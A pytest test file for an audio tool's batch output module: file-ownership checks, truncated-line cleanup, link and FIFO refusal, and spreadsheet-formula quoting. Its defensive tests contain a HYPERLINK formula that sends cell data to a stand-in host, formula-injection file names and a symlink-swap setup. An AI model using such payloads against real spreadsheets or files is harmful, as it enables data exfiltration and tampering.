"""emovox.serving.outfile: which files a batch run may append to or rewrite."""

from __future__ import annotations

import csv
import json

import pytest

from emovox.errors import ConfigError
from emovox.serving.outfile import (
    CSV_HEADERS,
    check_ours,
    check_same_model,
    drop_partial_last_line,
    models_in,
    spreadsheet_safe,
)


def write_csv(path, header, rows=()):
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(header)
        w.writerows(rows)


@pytest.mark.parametrize("header", CSV_HEADERS)
def test_every_header_emovox_wrote_is_accepted(tmp_path, header):
    out = tmp_path / "r.csv"
    write_csv(out, header, [["/a.wav", *[""] * (len(header) - 1)]])
    check_ours(out)
    write_csv(out, (*header, "speaker_group", "adapted"))
    check_ours(out, ["speaker_group", "adapted"])
    with pytest.raises(ConfigError, match="never wrote"):
        check_ours(out)  # the adaptation columns only where they are expected


def test_missing_empty_and_emovox_jsonl_are_accepted(tmp_path):
    check_ours(tmp_path / "none.csv")
    (tmp_path / "empty.jsonl").write_text("")
    check_ours(tmp_path / "empty.jsonl")
    doc = {"schema_version": "1.0", "source": "/a.wav", "error": "empty"}
    (tmp_path / "r.jsonl").write_text(json.dumps(doc) + "\n\n" + json.dumps(doc)[:20])
    check_ours(tmp_path / "r.jsonl")  # a last line cut short is not a foreign line


@pytest.mark.parametrize("name,content,why", [
    ("a.csv", "name,age\nalice,30\n", "never wrote"),
    ("b.csv", "path,label\n/a.wav,happy\n", "never wrote"),
    ("c.jsonl", "notes\n", "line 1"),
    ("d.jsonl", '{"schema_version": "1.0", "source": "/a"}\n{"name": 1}\n', "line 2"),
    ("e.jsonl", '[1, 2]\n', "line 1"),
])
def test_anything_else_is_refused(tmp_path, name, content, why):
    out = tmp_path / name
    out.write_text(content)
    with pytest.raises(ConfigError, match=why):
        check_ours(out)
    assert out.read_text() == content


def test_a_folder_named_like_an_output_is_refused(tmp_path):
    (tmp_path / "x.csv").mkdir()
    (tmp_path / "x.csv" / "f").write_text("x")
    with pytest.raises(ConfigError, match="not a regular file"):
        check_ours(tmp_path / "x.csv")


def test_a_last_line_cut_short_is_removed(tmp_path):
    out = tmp_path / "r.csv"
    out.write_bytes(b"h1,h2\r\n/a.wav,1\r\n/b.wav,0.")
    assert drop_partial_last_line(out)
    assert out.read_bytes() == b"h1,h2\r\n/a.wav,1\r\n"
    assert not drop_partial_last_line(out)  # complete: untouched
    out.write_bytes(b"h1,h2\r\n/a.wav,1\r")  # cut between \r and \n
    assert drop_partial_last_line(out) and out.read_bytes() == b"h1,h2\r\n"
    out.write_bytes(b"no newline at all")
    assert drop_partial_last_line(out) and out.read_bytes() == b""
    assert not drop_partial_last_line(tmp_path / "missing.csv")
    # cut just after a line end inside a quoted file name: the open quote tells (it stayed
    # as a phantom row "/new" with every column empty: QA, stop 38)
    rows = b'path,s\r\n"/a,b.wav",1\r\n"/x/new\nline.wav",1\r\n'
    out.write_bytes(rows + b'"/x/new\n')
    assert drop_partial_last_line(out) and out.read_bytes() == rows
    assert not drop_partial_last_line(out)  # quotes balanced, complete: untouched
    out.write_bytes(rows + b'"/y/two\nline\nbreaks.wav",0.5')  # cut later in that row
    assert drop_partial_last_line(out) and out.read_bytes() == rows
    jsonl = tmp_path / "r.jsonl"  # JSON lines escape their newlines: a line is a row
    jsonl.write_bytes(b'{"path": "a\\"b"}\n')
    assert not drop_partial_last_line(jsonl)


def test_a_long_or_only_cut_short_jsonl_row_is_removed_and_a_foreign_line_kept(tmp_path):
    """A cut-short row over 64 KiB (a long recording's) stopped every resume, and a cut-short
    only row was "not an emovox record" (code review, stop 46)."""
    from emovox.serving.outfile import RECORD_START

    out = tmp_path / "r.jsonl"
    first = (RECORD_START + '"1", "source": "/a.wav", "label": "sad"}\n').encode()
    out.write_bytes(first + (RECORD_START + '"1", "windows": [' + "0.1, " * 20_000).encode())
    check_ours(out)
    assert drop_partial_last_line(out) and out.read_bytes() == first
    out.write_bytes((RECORD_START + '"1", "source": "/a.w').encode())  # the only line
    check_ours(out)
    assert drop_partial_last_line(out) and out.read_bytes() == b""
    foreign = tmp_path / "notes.jsonl"
    foreign.write_bytes(b"my own notes, no newline")
    with pytest.raises(ConfigError, match="line 1 is not an emovox record"):
        check_ours(foreign)


def test_a_jsonl_of_timeline_documents_is_not_taken_for_batch_output(tmp_path):
    """Timeline documents (`timeline --json`, or API answers saved one per line) carry
    schema_version and source too: batch appended its rows to such a file and skipped the
    files it named as already predicted (code review, stop 47)."""
    out = tmp_path / "timelines.jsonl"
    doc = {"schema_version": "1", "source": "/in/a.flac", "segments": [],
           "summary": {"status": "ok"}}
    out.write_text(json.dumps(doc) + "\n")
    with pytest.raises(ConfigError, match="line 1 is a timeline document"):
        check_ours(out)


def test_every_jsonl_record_starts_as_outfile_expects(tmp_path):
    from emovox.serving.batch import row_for
    from emovox.serving.outfile import RECORD_START

    row = row_for(tmp_path / "x.wav", None, "not audio", fmt="jsonl")
    assert json.dumps(row).startswith(RECORD_START)


def test_another_models_rows_are_refused():
    rows = [{"model_id": "a-1", "error": ""}, {"model_id": "", "error": ""},
            {"model_id": "b-2", "error": "empty"}, {"error": ""}]
    assert models_in(rows) == {"a-1"}  # error rows and rows without an id do not count
    check_same_model("r.csv", rows, "a-1")
    check_same_model("r.csv", rows, None)
    with pytest.raises(ConfigError, match="a-1; this run uses c-3"):
        check_same_model("r.csv", rows, "c-3")


@pytest.mark.parametrize("kind", ["link to an empty file", "dangling link", "fifo",
                                  "hard link"])
def test_links_and_fifos_are_never_ours(tmp_path, kind):
    """A size-0 check came first: rows went into a foreign empty file through a link, a
    dangling link created its target, a FIFO hung the batch (security QA, stop 31)."""
    import os

    out = tmp_path / "rows.csv"
    target = tmp_path / "foreign.csv"
    if kind == "fifo":
        os.mkfifo(out)
    elif kind == "hard link":
        target.write_bytes(b"")
        os.link(target, out)
    else:
        if kind == "link to an empty file":
            target.write_bytes(b"")
        out.symlink_to(target)
    with pytest.raises(ConfigError, match="symbolic link|not a regular file|hard link"):
        check_ours(out)
    assert not target.exists() or target.read_bytes() == b""


def test_cells_a_spreadsheet_would_run_are_quoted(tmp_path):
    """A file named =1+2*3.wav made its error cell a formula (security QA, stop 31)."""
    from emovox.serving.batch import row_for

    assert [spreadsheet_safe(t) for t in ("=1+2", "+x", "-x", "@x", "\tx", "ok", "")] == [
        "'=1+2", "'+x", "'-x", "'@x", "'\tx", "ok", ""]
    # after spaces, and look-alikes (re-check, stop 31)
    assert [spreadsheet_safe(t) for t in (" =x", "\u00a0=x", "\uff1dx", "\u2212x", "a=b")] == [
        "' =x", "'\u00a0=x", "'\uff1dx", "'\u2212x", "a=b"]
    row = row_for(tmp_path / "=1+2*3.wav", None, "=1+2*3.wav: not a recognisable audio file")
    assert row["error"].startswith("'=1+2*3.wav")


def test_a_link_swapped_in_after_the_check_is_refused_at_the_open(tmp_path):
    """check_ours, then open(out, "a"): a link swapped in between got the rows (second
    re-check, stop 31). The file is opened without following links and checked open."""
    from emovox.serving.outfile import open_ours_for_append

    out, victim = tmp_path / "rows.jsonl", tmp_path / "victim.txt"
    victim.write_text("VICTIM\n")
    check_ours(out)  # nothing there yet: fine
    out.symlink_to(victim)  # ... swapped in now
    with pytest.raises(ConfigError, match="plain file"):
        open_ours_for_append(out)
    assert victim.read_text() == "VICTIM\n"
    out.unlink()
    with open_ours_for_append(out) as f:
        f.write("{}\n")
    assert out.read_text() == "{}\n"


def test_a_model_name_that_is_a_formula_is_quoted_and_still_matches_on_resume():
    """`model_id` is the model's name (any text from model.json) and a digest: a folder named
    like a formula wrote it into every row (second re-check, stop 31)."""
    from emovox.serving.outfile import unquoted

    mid = '=HYPERLINK("http://x.example/?"&A1,"ok")-0123abcd'
    cell = spreadsheet_safe(mid)
    assert cell == "'" + mid and unquoted(cell) == mid
    for name in ("'plain", "'=x", "''", "ok", "-x"):  # exact round trips (third re-check)
        assert unquoted(spreadsheet_safe(name)) == name
    assert models_in([{"model_id": cell, "error": ""}], from_csv=True) == {mid}
    assert models_in([{"model_id": "'=x", "error": ""}]) == {"'=x"}  # JSON lines: as is
